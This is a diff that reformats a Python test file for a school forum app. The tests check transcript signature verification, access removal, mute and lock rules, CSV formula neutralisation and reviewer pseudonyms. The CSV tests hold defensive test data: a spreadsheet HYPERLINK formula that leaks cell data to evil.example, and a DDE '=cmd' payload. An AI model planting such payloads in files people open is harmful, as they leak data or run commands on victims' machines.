@@ -22,8 +22,10 @@ from forum.live import handlers
 
 def sessions_of(demo: dict) -> dict[str, int]:
     by_title = {s["title"]: s for s in demo["sessions"]}
-    return {"sealed": by_title["Plastic on our beaches"]["id"],
-            "live": by_title["Our rivers and the sea"]["id"]}
+    return {
+        "sealed": by_title["Plastic on our beaches"]["id"],
+        "live": by_title["Our rivers and the sea"]["id"],
+    }
 
 
 def signed_in(app, demo: dict, role: str, school: str | None = "taipei-daan"):
@@ -40,8 +42,11 @@ def run_verify(runner, *args) -> tuple[int, str]:
 
 
 def pem_of(key: Ed25519PrivateKey) -> str:
-    return key.public_key().public_bytes(
-        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()
+    return (
+        key.public_key()
+        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+        .decode()
+    )
 
 
 def forge(doc: dict, seq: int, body: str, key: Ed25519PrivateKey) -> dict:
@@ -53,9 +58,18 @@ def forge(doc: dict, seq: int, body: str, key: Ed25519PrivateKey) -> dict:
     previous = hashlib.sha256(f"sdg-forum/{sid}".encode()).hexdigest()
     for event in doc["events"]:
         canonical = json.dumps(
-            {"session_id": sid, "seq": event["seq"], "type": event["type"], "at": event["at"],
-             "actor_id": event["actor_id"], "data": event["data"]},
-            sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
+            {
+                "session_id": sid,
+                "seq": event["seq"],
+                "type": event["type"],
+                "at": event["at"],
+                "actor_id": event["actor_id"],
+                "data": event["data"],
+            },
+            sort_keys=True,
+            separators=(",", ":"),
+            ensure_ascii=False,
+        ).encode()
         previous = hashlib.sha256(bytes.fromhex(previous) + canonical).hexdigest()
         event["hash"] = previous
     doc["head_hash"] = previous
@@ -66,11 +80,15 @@ def forge(doc: dict, seq: int, body: str, key: Ed25519PrivateKey) -> dict:
 
 def upload(client, data: bytes):
     token = csrf_token(client, "/review/verify")
-    return client.post("/review/verify", content_type="multipart/form-data", data={
-        "csrf_token": token, "file": (io.BytesIO(data), "transcript.json")})
+    return client.post(
+        "/review/verify",
+        content_type="multipart/form-data",
+        data={"csrf_token": token, "file": (io.BytesIO(data), "transcript.json")},
+    )
 
 
 # --- 1. the verifier trusts only known keys ---------------------------------------------
+
 
 def test_a_record_re_signed_with_its_own_key_is_invalid(app, demo, runner, tmp_path):
     sealed = sessions_of(demo)["sealed"]
@@ -81,8 +99,10 @@ def test_a_record_re_signed_with_its_own_key_is_invalid(app, demo, runner, tmp_p
     seq = next(e["seq"] for e in doc["events"] if e["type"] == "message.posted")
     forger = Ed25519PrivateKey.generate()
     forged = tmp_path / "forged.json"
-    forged.write_text(json.dumps(forge(doc, seq, "We never cleaned any beach.", forger),
-                                 ensure_ascii=False), encoding="utf-8")
+    forged.write_text(
+        json.dumps(forge(doc, seq, "We never cleaned any beach.", forger), ensure_ascii=False),
+        encoding="utf-8",
+    )
     platform_key = tmp_path / "platform.pem"
     platform_key.write_text(reviewer.get("/evidence/public-key").get_data(as_text=True))
 
@@ -115,14 +135,16 @@ def test_a_record_re_signed_with_its_own_key_is_invalid(app, demo, runner, tmp_p
     assert response.status_code == 200 and "<h2>Valid</h2>" in response.get_data(as_text=True)
     # A live (unsealed) export is still valid and unsealed.
     live = tmp_path / "live.json"
-    live.write_bytes(reviewer.get(f"/sessions/{sessions_of(demo)['live']}/transcript.json")
-                     .get_data())
+    live.write_bytes(
+        reviewer.get(f"/sessions/{sessions_of(demo)['live']}/transcript.json").get_data()
+    )
     code, line = run_verify(runner, live)
     assert code == 0 and line.startswith("valid") and "not sealed" in line, line
 
 
 def test_after_a_key_rotation_the_desk_still_trusts_the_platforms_old_key(
-        app, demo, make_app, tmp_path):
+    app, demo, make_app, tmp_path
+):
     sealed = sessions_of(demo)["sealed"]
     reviewer = signed_in(app, demo, "reviewer")
     raw = reviewer.get(f"/sessions/{sealed}/transcript.json").get_data()
@@ -152,6 +174,7 @@ def test_after_a_key_rotation_the_desk_still_trusts_the_platforms_old_key(
 
 # --- 2. a removed student loses the record -----------------------------------------------
 
+
 @pytest.fixture
 def people(app, demo):
     room.rate_limiter.forget()
@@ -161,9 +184,14 @@ def people(app, demo):
     handlers._typing_limiter.forget()
 
 
-RECORD_PATHS = ("/sessions/{sid}/transcript.json", "/sessions/{sid}/transcript.csv",
-                "/sessions/{sid}/transcript.html", "/api/v1/sessions/{sid}/transcript",
-                "/api/v1/sessions/{sid}", "/sessions/{sid}")
+RECORD_PATHS = (
+    "/sessions/{sid}/transcript.json",
+    "/sessions/{sid}/transcript.csv",
+    "/sessions/{sid}/transcript.html",
+    "/api/v1/sessions/{sid}/transcript",
+    "/api/v1/sessions/{sid}",
+    "/sessions/{sid}",
+)
 
 
 def test_a_removed_student_can_no_longer_read_the_session(people, app, demo):
@@ -174,8 +202,9 @@ def test_a_removed_student_can_no_longer_read_the_session(people, app, demo):
     for path in RECORD_PATHS:
         assert student.http.get(path.format(sid=sid)).status_code == 200, path
     teacher.ok("mod.remove", {"session_id": sid, "user_id": student.id})
-    teacher.ok("chat.send", {"session_id": sid, "client_id": "after",
-                             "body": "said after the removal"})
+    teacher.ok(
+        "chat.send", {"session_id": sid, "client_id": "after", "body": "said after the removal"}
+    )
 
     for path in RECORD_PATHS:
         response = student.http.get(path.format(sid=sid))
@@ -189,8 +218,12 @@ def test_a_removed_student_can_no_longer_read_the_session(people, app, demo):
     assert student.http.get(f"/sessions/{people.kr_session}/transcript.json").status_code == 200
 
     # Everyone else reads on.
-    readers = [classmate.http, sign_in(app, people.users["tw_teacher"]),
-               signed_in(app, demo, "reviewer"), signed_in(app, demo, "admin")]
+    readers = [
+        classmate.http,
+        sign_in(app, people.users["tw_teacher"]),
+        signed_in(app, demo, "reviewer"),
+        signed_in(app, demo, "admin"),
+    ]
     for http in readers:
         for path in RECORD_PATHS[:4]:
             response = http.get(path.format(sid=sid))
@@ -200,15 +233,25 @@ def test_a_removed_student_can_no_longer_read_the_session(people, app, demo):
 
 # --- 3. muted and locked hold for every write ----------------------------------------
 
+
 def _student_writes(sid: int, note: dict, message_id: int) -> list[tuple[str, dict]]:
     return [
         ("chat.send", {"session_id": sid, "client_id": "w1", "body": "hello?"}),
         ("chat.react", {"session_id": sid, "message_id": message_id, "emoji": "👍"}),
         ("typing", {"session_id": sid}),
-        ("note.add", {"session_id": sid, "client_id": "w2", "column": "see",
-                      "text": "a note for everyone"}),
-        ("note.edit", {"session_id": sid, "note_id": note["id"], "version": note["version"],
-                       "text": "changed"}),
+        (
+            "note.add",
+            {"session_id": sid, "client_id": "w2", "column": "see", "text": "a note for everyone"},
+        ),
+        (
+            "note.edit",
+            {
+                "session_id": sid,
+                "note_id": note["id"],
+                "version": note["version"],
+                "text": "changed",
+            },
+        ),
         ("note.vote", {"session_id": sid, "note_id": note["id"]}),
         ("note.remove", {"session_id": sid, "note_id": note["id"]}),
     ]
@@ -219,11 +262,12 @@ def _setup_room(people):
     student = people.joined("tw_student")
     other = people.joined("jp_student")
     teacher = people.joined("jp_teacher")
-    note = student.ok("note.add", {"session_id": sid, "client_id": "mine", "column": "see",
-                                   "text": "my own note"})["event"]["data"]["note"]
-    message_id = teacher.ok("chat.send", {"session_id": sid, "client_id": "q",
-                                          "body": "What did you find?"})["event"]["data"][
-        "message_id"]
+    note = student.ok(
+        "note.add", {"session_id": sid, "client_id": "mine", "column": "see", "text": "my own note"}
+    )["event"]["data"]["note"]
+    message_id = teacher.ok(
+        "chat.send", {"session_id": sid, "client_id": "q", "body": "What did you find?"}
+    )["event"]["data"]["message_id"]
     return sid, student, other, teacher, note, message_id
 
 
@@ -251,8 +295,9 @@ def test_a_locked_room_takes_no_student_writes(people):
     assert other.received("event") == [] and other.received("typing") == []
     assert teacher.ok("typing", {"session_id": sid}) == {"ok": True}
     assert other.received("typing")
-    teacher.ok("note.edit", {"session_id": sid, "note_id": note["id"],
-                             "version": note["version"], "x": 10})
+    teacher.ok(
+        "note.edit", {"session_id": sid, "note_id": note["id"], "version": note["version"], "x": 10}
+    )
 
 
 # --- 4. spreadsheet formulas do not run from an export --------------------------------
@@ -261,8 +306,9 @@ FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)")
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(people, app, demo, runner,
-                                                                 tmp_path):
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    people, app, demo, runner, tmp_path
+):
     sid = people.live_session
     class_id = next(c["id"] for c in demo["classes"] if c["school"] == "taipei-daan")
     roster = tmp_path / "roster.csv"
@@ -271,8 +317,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(people, app, dem
     result = runner.invoke(args=["forum", "import-roster", str(class_id), str(roster), "--json"])
     assert result.exit_code == 0, result.output
     code = json.loads(result.stdout)[0]["code"]
-    user = {"code": code, "display_name": EVIL_NAME, "role": "student",
-            "school": "taipei-daan"}
+    user = {"code": code, "display_name": EVIL_NAME, "role": "student", "school": "taipei-daan"}
     evil = Live(app, user, http=sign_in(app, user))
     evil.ok("join", {"session_id": sid})
     for i, body in enumerate(FORMULAS):
@@ -282,7 +327,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(people, app, dem
     raw = teacher.get(f"/sessions/{sid}/transcript.csv").get_data()
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
     header = rows[0]
-    mine = [r for r in rows[1:] if r[header.index("author")].endswith("click\")")]
+    mine = [r for r in rows[1:] if r[header.index("author")].endswith('click")')]
     assert [r[header.index("author")] for r in mine] == ["'" + EVIL_NAME] * len(FORMULAS)
     assert [r[header.index("body")] for r in mine] == ["'" + f for f in FORMULAS]
     for row in rows:
@@ -292,30 +337,39 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(people, app, dem
     # The evidence keeps the exact text.
     doc = teacher.get(f"/sessions/{sid}/transcript.json").get_json()
     bodies = [e["data"]["body"] for e in doc["events"] if e["type"] == "message.posted"]
-    assert bodies[-len(FORMULAS):] == list(FORMULAS)
+    assert bodies[-len(FORMULAS) :] == list(FORMULAS)
     assert EVIL_NAME in [a["name"] for a in doc["actors"].values()]
 
 
 def test_report_csvs_neutralise_formulas_too(app, demo, runner, monkeypatch):
     from forum import review
 
-    rows = [("figure", "=cmd|' /C calc'!A0", 1), ("figure", "\tTAB", "-2+3"),
-            ("sessions_held", "", 3)]
+    rows = [
+        ("figure", "=cmd|' /C calc'!A0", 1),
+        ("figure", "\tTAB", "-2+3"),
+        ("sessions_held", "", 3),
+    ]
     monkeypatch.setattr(review, "report_rows", lambda data: rows)
     result = runner.invoke(args=["forum", "report", "--year", "113", "--format", "csv"])
     assert result.exit_code == 0, result.output
     lines = list(csv.reader(io.StringIO(result.stdout)))
-    assert lines[1:] == [["figure", "'=cmd|' /C calc'!A0", "1"], ["figure", "'\tTAB", "'-2+3"],
-                         ["sessions_held", "", "3"]]
+    assert lines[1:] == [
+        ["figure", "'=cmd|' /C calc'!A0", "1"],
+        ["figure", "'\tTAB", "'-2+3"],
+        ["sessions_held", "", "3"],
+    ]
     reviewer = signed_in(app, demo, "reviewer")
     raw = reviewer.get("/review/report?year=113&format=csv").get_data()
     lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
-    assert lines[1:] == [["figure", "'=cmd|' /C calc'!A0", "1"], ["figure", "'\tTAB", "'-2+3"],
-                         ["sessions_held", "", "3"]]
-
+    assert lines[1:] == [
+        ["figure", "'=cmd|' /C calc'!A0", "1"],
+        ["figure", "'\tTAB", "'-2+3"],
+        ["sessions_held", "", "3"],
+    ]
 
 
 # --- 5. reviewers read students under pseudonyms, live too ------------------------------
+
 
 def _student_names(demo: dict) -> set[str]:
     return {u["display_name"] for u in demo["users"] if u["role"] == "student"}
@@ -350,18 +404,30 @@ def test_a_reviewer_hears_the_live_room_under_the_records_pseudonyms(people, dem
     other.ok("typing", {"session_id": sid})
     teacher.ok("mod.mute", {"session_id": sid, "user_id": student.id, "minutes": 5})
 
-    heard = {"replay": ack["events"], "presence": reviewer.received("presence"),
-             "events": reviewer.received("event"), "typing": reviewer.received("typing")}
+    heard = {
+        "replay": ack["events"],
+        "presence": reviewer.received("presence"),
+        "events": reviewer.received("event"),
+        "typing": reviewer.received("typing"),
+    }
     students = _student_names(demo)
     for path, payloads in heard.items():
         assert payloads, path
         assert not _names_in(payloads) & students, (path, _names_in(payloads) & students)
     # The numbers are the record's: the transcript says who "Student N" is.
-    doc = people.app.test_client().get(
-        f"/api/v1/sessions/{sid}/transcript",
-        headers={"Authorization": f"Bearer {people.token('reviewer')}"}).get_json()
-    live_names = {e["actor"]["id"]: e["actor"]["name"]
-                  for e in heard["replay"] + heard["events"] if e["actor"]}
+    doc = (
+        people.app.test_client()
+        .get(
+            f"/api/v1/sessions/{sid}/transcript",
+            headers={"Authorization": f"Bearer {people.token('reviewer')}"},
+        )
+        .get_json()
+    )
+    live_names = {
+        e["actor"]["id"]: e["actor"]["name"]
+        for e in heard["replay"] + heard["events"]
+        if e["actor"]
+    }
     for uid in (student.id, other.id):
         assert live_names[uid] == doc["actors"][str(uid)]["name"], uid
     assert heard["typing"][-1]["user"]["name"] == doc["actors"][str(other.id)]["name"]
@@ -415,7 +481,8 @@ def test_a_teacher_may_reveal_names_to_reviewers_and_the_choice_is_kept(people, 
         teacher_name = choices[-1].by.display_name
     assert [c.revealed for c in choices] == [True]
     assert teacher_name in reviewer_http.get(f"/sessions/{sid}/transcript.html").get_data(
-        as_text=True)
+        as_text=True
+    )
 
     response = teacher.post(f"/sessions/{sid}/names", data={"reveal": "0", "csrf_token": token})
     assert response.status_code == 302
